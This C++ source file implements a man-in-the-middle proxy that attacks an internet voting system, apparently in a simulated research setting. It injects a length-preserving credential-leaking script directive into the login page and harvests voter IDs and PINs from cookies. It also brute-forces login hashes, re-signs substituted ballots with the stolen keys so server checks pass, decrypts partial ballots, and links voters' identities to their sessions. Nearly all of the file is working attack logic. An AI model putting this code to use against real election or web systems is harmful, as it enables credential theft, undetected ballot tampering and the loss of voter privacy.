#include "ivote/proxy.hpp"

#include <algorithm>
#include <sstream>

#include "ivote/errors.hpp"

namespace ivote {

namespace {

constexpr std::string_view kLeakDirective = "utmvc.leak(id,pin);";

json entry_to_json(const Transcript& t, std::size_t seq,
                   const TranscriptEntry& e) {
  return json{
      {"session_id", t.session_id},
      {"seq", seq},
      {"fingerprint", t.client_fingerprint},
      {"direction", e.direction == TranscriptEntry::Dir::c2s ? "c2s" : "s2c"},
      {"endpoint", e.endpoint},
      {"ts", e.timestamp},
      {"rewritten", e.rewritten},
      {"line", e.body},
  };
}

}  // namespace

json Transcript::to_json() const {
  json entries_j = json::array();
  for (std::size_t i = 0; i < entries.size(); ++i)
    entries_j.push_back(entry_to_json(*this, i, entries[i]));
  return json{{"session_id", session_id},
              {"fingerprint", client_fingerprint},
              {"entries", entries_j}};
}

InjectionPayload InjectionPayload::credential_leak(
    const std::string& original_script) {
  // The unminified script ends in a padding comment; compact it by exactly
  // the directive's length so the page size cannot change.
  const auto comment_at = original_script.rfind("/*");
  const auto comment_end = original_script.rfind("*/");
  if (comment_at == std::string::npos || comment_end == std::string::npos ||
      comment_end < comment_at)
    throw ValidationError("script has no trailing comment to compact");
  const std::string comment =
      original_script.substr(comment_at, comment_end + 2 - comment_at);
  const std::size_t dots = std::count(comment.begin(), comment.end(), '.');
  if (dots < kLeakDirective.size())
    throw ValidationError("script has insufficient slack for the payload");

  std::string compacted = comment;
  std::size_t removed = 0;
  std::string out;
  out.reserve(comment.size());
  for (char c : compacted) {
    if (c == '.' && removed < kLeakDirective.size()) {
      ++removed;
      continue;
    }
    out.push_back(c);
  }
  InjectionPayload payload;
  payload.original_script = original_script;
  payload.modified_script = original_script.substr(0, comment_at);
  payload.modified_script += kLeakDirective;
  payload.modified_script += out;
  payload.modified_script += original_script.substr(comment_end + 2);
  return payload;
}

Proxy::Proxy(Transport& upstream, AttackConfig cfg, SimClock& clock, Rng rng)
    : upstream_(upstream), cfg_(std::move(cfg)), clock_(clock),
      rng_(std::move(rng)) {
  if (cfg_.substitute && !cfg_.passive_log)
    throw ValidationError("substitute mode requires passive logging");
  if (cfg_.inject) {
    if (!cfg_.payload) throw ValidationError("inject mode requires a payload");
    if (cfg_.payload->modified_script.size() !=
        cfg_.payload->original_script.size())
      throw ValidationError("payload is not length-preserving");
  }
}

std::uint64_t Proxy::new_session() {
  std::lock_guard lock(mu_);
  const std::uint64_t id = next_session_++;
  sessions_[id].transcript.session_id = id;
  return id;
}

Proxy::SessionState& Proxy::state(std::uint64_t session_id) {
  auto it = sessions_.find(session_id);
  if (it == sessions_.end()) throw NotFoundError("unknown session");
  return it->second;
}

const Proxy::SessionState& Proxy::state(std::uint64_t session_id) const {
  auto it = sessions_.find(session_id);
  if (it == sessions_.end()) throw NotFoundError("unknown session");
  return it->second;
}

std::string Proxy::inject(const std::string& page_html,
                          const InjectionPayload& payload) {
  if (payload.modified_script.size() != payload.original_script.size())
    throw ValidationError("payload is not length-preserving");
  const auto at = page_html.find(payload.original_script);
  if (at == std::string::npos)
    throw ValidationError("original script not present in page");
  std::string out = page_html;
  out.replace(at, payload.original_script.size(), payload.modified_script);
  return out;
}

std::string Proxy::rewrite_cast(SessionState& s, const Envelope& env) {
  // Rebuild the ballot with the voter's own recovered keys so every
  // server-side check still passes.
  const Credentials& creds = *s.recovered;
  const CredentialFile cf = CredentialFile::from_json(*s.credential_file);
  const KeyMaterial km = open_credential_file(creds, cf, cfg_.kdf);

  const Key16 ballot_key = rng_.key16();
  Ballot ballot;
  ballot.sealed_prefs =
      crypto::seal(ballot_key, rng_, to_bytes(encode_prefs(*s.armed_prefs)));
  ballot.wrapped_key = crypto::wrap_key(*s.election_pk, ballot_key, rng_);
  ballot.signature = km.sk.sign(ballot.signed_payload());

  Envelope swapped = env;
  swapped.body = ballot.to_json();
  return swapped.to_line();
}

std::string Proxy::relay_c2s(std::uint64_t session_id, const std::string& line) {
  std::lock_guard lock(mu_);
  SessionState& s = state(session_id);

  std::string forward = line;
  bool rewritten = false;
  std::string endpoint;

  try {
    Envelope env = Envelope::from_line(line);
    endpoint = env.endpoint;
    if (s.transcript.client_fingerprint.empty() &&
        env.cookies.contains("visid"))
      s.transcript.client_fingerprint = env.cookies["visid"].get<std::string>();

    if (is_cast_endpoint(env.endpoint)) {
      if (cfg_.substitute && s.armed_prefs && s.recovered &&
          s.credential_file && s.election_pk && !s.cast_seen) {
        forward = rewrite_cast(s, env);
        rewritten = true;
      }
      s.cast_seen = true;
    }
  } catch (const Error&) {
    // Unparseable bytes relay untouched; the proxy must stay transparent.
  }

  s.transcript.entries.push_back({TranscriptEntry::Dir::c2s, endpoint, forward,
                                  clock_.now(), rewritten});
  return forward;
}

std::string Proxy::relay_s2c(std::uint64_t session_id,
                             const std::string& request_endpoint,
                             const std::string& line) {
  std::lock_guard lock(mu_);
  SessionState& s = state(session_id);

  std::string forward = line;
  bool rewritten = false;

  try {
    if (request_endpoint == ep_login_page() && cfg_.inject && cfg_.payload) {
      json j = json::parse(line);
      if (j.contains("body") && j["body"].contains("html")) {
        j["body"]["html"] =
            inject(j["body"]["html"].get<std::string>(), *cfg_.payload);
        forward = j.dump();
        rewritten = true;
      }
    } else if (request_endpoint == ep_login()) {
      json j = json::parse(line, nullptr, false);
      if (!j.is_discarded() && j.contains("body") &&
          j["body"].contains("credential_file"))
        s.credential_file = j["body"]["credential_file"];
    } else if (is_token_endpoint(request_endpoint)) {
      json j = json::parse(line, nullptr, false);
      if (!j.is_discarded() && j.contains("body") && j["body"].contains("token"))
        s.election_pk = base64_decode(
            j["body"]["token"].value("election_pk", std::string{}));
    } else if (is_cast_endpoint(request_endpoint)) {
      json j = json::parse(line, nullptr, false);
      if (!j.is_discarded() && j.contains("body") &&
          j["body"].contains("receipt"))
        s.observed_receipt = j["body"]["receipt"].get<std::string>();
    }
  } catch (const std::exception&) {
    forward = line;
    rewritten = false;
  }

  s.transcript.entries.push_back({TranscriptEntry::Dir::s2c, request_endpoint,
                                  forward, clock_.now(), rewritten});
  return forward;
}

namespace {

class ProxyChannel : public Transport {
 public:
  ProxyChannel(Proxy& proxy, Transport& upstream, std::uint64_t session_id)
      : proxy_(proxy), upstream_(upstream), session_id_(session_id) {}

  std::string post_line(const std::string& line) override {
    const std::string forward = proxy_.relay_c2s(session_id_, line);
    std::string endpoint;
    try {
      endpoint = Envelope::from_line(forward).endpoint;
    } catch (const Error&) {
    }
    const std::string response = upstream_.post_line(forward);
    return proxy_.relay_s2c(session_id_, endpoint, response);
  }

 private:
  Proxy& proxy_;
  Transport& upstream_;
  std::uint64_t session_id_;
};

}  // namespace

Proxy::SessionHandle Proxy::open_session() {
  SessionHandle handle;
  handle.id = new_session();
  handle.transport = std::make_unique<ProxyChannel>(*this, upstream_, handle.id);
  return handle;
}

std::vector<Credentials> Proxy::harvest_credentials(const Transcript& t) const {
  std::vector<Credentials> out;
  for (const auto& entry : t.entries) {
    if (entry.direction != TranscriptEntry::Dir::c2s) continue;
    json j = json::parse(entry.body, nullptr, false);
    if (j.is_discarded() || !j.contains("cookies")) continue;
    const json& cookies = j["cookies"];
    if (!cookies.contains("__utmvc")) continue;
    const json& utmvc = cookies["__utmvc"];
    if (!utmvc.contains("id") || !utmvc.contains("pin")) continue;
    // Only cookies observed within their lifetime window count.
    const double set_at = utmvc.value("set_at", 0.0);
    if (entry.timestamp > set_at + cfg_.cookie_lifetime_s) continue;
    Credentials creds{utmvc["id"].get<std::string>(),
                      utmvc["pin"].get<std::string>()};
    if (std::find(out.begin(), out.end(), creds) == out.end())
      out.push_back(std::move(creds));
  }
  return out;
}

std::map<std::string, Credentials> Proxy::harvest_all() const {
  std::map<std::string, Credentials> out;
  std::lock_guard lock(mu_);
  for (const auto& [id, s] : sessions_) {
    for (const auto& creds : harvest_credentials(s.transcript))
      out.emplace(s.transcript.client_fingerprint, creds);
  }
  return out;
}

Credentials Proxy::crack_session(const Transcript& t,
                                 std::optional<std::string> known_id_hint) {
  // The brute-force target is the login hash the browser posted.
  std::optional<std::string> login_id;
  for (const auto& entry : t.entries) {
    if (entry.direction != TranscriptEntry::Dir::c2s) continue;
    json j = json::parse(entry.body, nullptr, false);
    if (j.is_discarded()) continue;
    if (j.value("endpoint", "") != ep_login()) continue;
    if (j.contains("body") && j["body"].contains("voter_id")) {
      login_id = j["body"]["voter_id"].get<std::string>();
      break;
    }
  }
  if (!login_id)
    throw PreconditionError("transcript contains no login message");

  bruteforce::Keyspace ks;
  ks.fixed_id = known_id_hint;
  ks.id_digits = cfg_.kdf.id_digits;
  ks.pin_digits = cfg_.kdf.pin_digits;
  ks.iterations = cfg_.kdf.iterations;

  bruteforce::CrackResult result = bruteforce::crack(*login_id, ks, cfg_.crack);
  if (!result.creds)
    throw NotFoundError(result.timed_out ? "crack timed out"
                                         : "keyspace exhausted");
  set_recovered(t.session_id, *result.creds);
  return *result.creds;
}

void Proxy::substitute_ballot(std::uint64_t session_id,
                              const PrefSet& attacker_prefs) {
  std::lock_guard lock(mu_);
  SessionState& s = state(session_id);
  if (!cfg_.substitute)
    throw ValidationError("substitute mode not enabled");
  if (!s.recovered || !s.credential_file)
    throw CannotSubstituteError("credentials not recovered for session");
  if (s.cast_seen) throw TooLateError("voter already cast");
  s.armed_prefs = attacker_prefs;
}

std::optional<std::string> Proxy::observed_receipt(
    std::uint64_t session_id) const {
  std::lock_guard lock(mu_);
  return state(session_id).observed_receipt;
}

std::vector<Proxy::DecryptedPartial> Proxy::decrypt_partials(
    const Transcript& t, const Credentials& creds) const {
  std::optional<json> cf_json;
  std::vector<crypto::SealedBlob> blobs;
  for (const auto& entry : t.entries) {
    json j = json::parse(entry.body, nullptr, false);
    if (j.is_discarded()) continue;
    if (entry.direction == TranscriptEntry::Dir::s2c &&
        entry.endpoint == ep_login() && j.contains("body") &&
        j["body"].contains("credential_file")) {
      cf_json = j["body"]["credential_file"];
    }
    if (entry.direction == TranscriptEntry::Dir::c2s &&
        is_partial_endpoint(j.value("endpoint", ""))) {
      if (j.contains("body") && j["body"].contains("eo"))
        blobs.push_back(
            crypto::SealedBlob::from_base64(j["body"]["eo"].get<std::string>()));
    }
  }
  if (!cf_json)
    throw PreconditionError("transcript contains no credential file");

  const CredentialFile cf = CredentialFile::from_json(*cf_json);
  std::optional<KeyMaterial> km;
  try {
    km = open_credential_file(creds, cf, cfg_.kdf);
  } catch (const AuthError&) {
    // Wrong credentials: every blob is unrecoverable but still flagged.
  }

  std::vector<DecryptedPartial> out;
  for (const auto& blob : blobs) {
    DecryptedPartial item;
    if (km) {
      try {
        item.prefs = decode_prefs(to_string(crypto::unseal(km->kp, blob)));
        item.ok = true;
      } catch (const Error&) {
        item.ok = false;
      }
    }
    out.push_back(std::move(item));
  }
  return out;
}

std::map<std::string, std::uint64_t> Proxy::link_sessions(
    const std::vector<Transcript>& transcripts) {
  // fingerprint -> identity, from registration traffic.
  std::map<std::string, std::string> registered;
  for (const auto& t : transcripts) {
    for (const auto& entry : t.entries) {
      if (entry.direction != TranscriptEntry::Dir::c2s) continue;
      json j = json::parse(entry.body, nullptr, false);
      if (j.is_discarded()) continue;
      if (j.value("endpoint", "") != ep_registration_visit()) continue;
      if (j.contains("body") && j["body"].contains("identity"))
        registered[t.client_fingerprint] =
            j["body"]["identity"].get<std::string>();
    }
  }

  // fingerprint -> voting session (prefer the session that cast).
  std::map<std::string, std::uint64_t> voting;
  std::map<std::string, bool> voted;
  for (const auto& t : transcripts) {
    bool has_login = false;
    bool has_cast = false;
    for (const auto& entry : t.entries) {
      if (entry.direction != TranscriptEntry::Dir::c2s) continue;
      json j = json::parse(entry.body, nullptr, false);
      if (j.is_discarded()) continue;
      const std::string ep = j.value("endpoint", "");
      has_login |= ep == ep_login();
      has_cast |= is_cast_endpoint(ep);
    }
    if (!has_login) continue;
    auto it = voted.find(t.client_fingerprint);
    if (it == voted.end() || (has_cast && !it->second)) {
      voting[t.client_fingerprint] = t.session_id;
      voted[t.client_fingerprint] = has_cast;
    }
  }

  std::map<std::string, std::uint64_t> out;
  for (const auto& [fp, identity] : registered) {
    auto it = voting.find(fp);
    if (it != voting.end()) out[identity] = it->second;
  }
  return out;
}

std::map<std::string, std::uint64_t> Proxy::link_sessions() const {
  return link_sessions(transcripts());
}

void Proxy::set_recovered(std::uint64_t session_id, const Credentials& creds) {
  std::lock_guard lock(mu_);
  state(session_id).recovered = creds;
}

std::optional<Credentials> Proxy::recovered(std::uint64_t session_id) const {
  std::lock_guard lock(mu_);
  return state(session_id).recovered;
}

Transcript Proxy::transcript(std::uint64_t session_id) const {
  std::lock_guard lock(mu_);
  return state(session_id).transcript;
}

std::vector<Transcript> Proxy::transcripts() const {
  std::lock_guard lock(mu_);
  std::vector<Transcript> out;
  out.reserve(sessions_.size());
  for (const auto& [id, s] : sessions_) out.push_back(s.transcript);
  return out;
}

std::string Proxy::export_jsonl() const {
  std::ostringstream os;
  for (const auto& t : transcripts()) {
    for (std::size_t i = 0; i < t.entries.size(); ++i)
      os << entry_to_json(t, i, t.entries[i]).dump() << '\n';
  }
  return os.str();
}

}  // namespace ivote
